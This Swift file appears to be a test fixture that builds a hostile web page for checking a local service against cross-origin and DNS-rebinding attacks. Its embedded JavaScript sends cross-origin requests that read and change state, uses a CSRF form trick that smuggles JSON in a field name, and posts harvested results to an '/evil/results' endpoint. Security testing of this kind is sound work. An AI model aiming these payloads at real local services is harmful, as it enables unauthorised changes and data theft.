/// A page of another site that tries all that a page can: to read a port of this machine, and to
/// change something by it. Its name and that of the port are the same where DNS was rebound.
enum AttackPage {
    /// - Parameter target: the origin it is after; empty: its own.
    static func html(against target: String) -> [UInt8] {
        Array(template.replacing("TARGET", with: target).utf8)
    }

    private static let template = """
        <!doctype html><meta charset=utf-8><body><script>
        const target = 'TARGET'
        const results = {}
        const json = {'content-type': 'application/json'}
        const nothing = ms => new Promise(done => setTimeout(() => done('nothing'), ms))
        const words = async answer =>
          `${answer.type} ${answer.status} ${(await answer.text()).slice(0, 300)}`
        const attempt = async (name, body) => {
          try { results[name] = await Promise.race([body(), nothing(5000)]) }
          catch (error) { results[name] = `failed: ${error.message}` }
        }
        const call = (name, path, options) =>
          attempt(name, async () => words(await fetch(target + path, options)))

        const frame = (name, src) => {
          const frame = document.createElement('iframe')
          frame.name = name
          if (src) frame.src = src
          document.body.append(frame)
          return frame
        }
        const form = enctype => attempt(`form ${enctype}`, () => new Promise(done => {
          const form = document.createElement('form')
          form.method = 'post'
          form.enctype = enctype
          form.action = `${target}/healthcheck/fail?by=form`
          form.target = enctype
          const field = document.createElement('input')
          field.name = '{"owner":"evil","reason":"'
          field.value = '"}'
          form.append(field)
          document.body.append(form)
          const answer = frame(enctype)
          form.submit()
          answer.onload = () => done('sent')
        }))
        const image = () => new Promise(done => {
          const image = new Image()
          image.onload = () => done(`read ${image.width}x${image.height}`)
          image.onerror = () => done('failed')
          image.src = `${target}/status?image`
        })
        const embed = () => new Promise(done => {
          onmessage = event => done(`read ${event.data}`)
          const inner = frame('embed', `${target}/status?frame`)
          inner.onload = () => setTimeout(() => {
            const text = inner.contentDocument?.body?.innerText
            done(text ? `read ${text}` : 'nothing')
          }, 500)
        })
        const events = () => new Promise(done => {
          const source = new EventSource(`${target}/events`)
          source.onmessage = event => done(`read ${event.data}`)
          source.onopen = () => setTimeout(() => done('opened'), 500)
          source.onerror = () => done('failed')
        })

        addEventListener('load', async () => {
          await call('fetch', '/status')
          await call('fetch no-cors', '/status', {mode: 'no-cors'})
          await attempt('image', image)
          await attempt('frame', embed)
          await attempt('events', events)
          await call('post no-cors', '/healthcheck/fail?by=fetch', {method: 'POST', mode: 'no-cors'})
          await call('post json', '/healthcheck/fail?by=json', {method: 'POST', headers: json, body: '{}'})
          await call('put', '/drain', {method: 'PUT', headers: json, body: '{"owner":"evil"}'})
          await call('delete', '/drain?owner=mine', {method: 'DELETE'})
          await attempt('beacon', async () => {
            navigator.sendBeacon(`${target}/healthcheck/fail?by=beacon`)
            return nothing(200)
          })
          await form('application/x-www-form-urlencoded')
          await form('multipart/form-data')
          await form('text/plain')
          await fetch('/evil/results', {method: 'POST', headers: json, body: JSON.stringify(results)})
        })
        </script>
        """
}
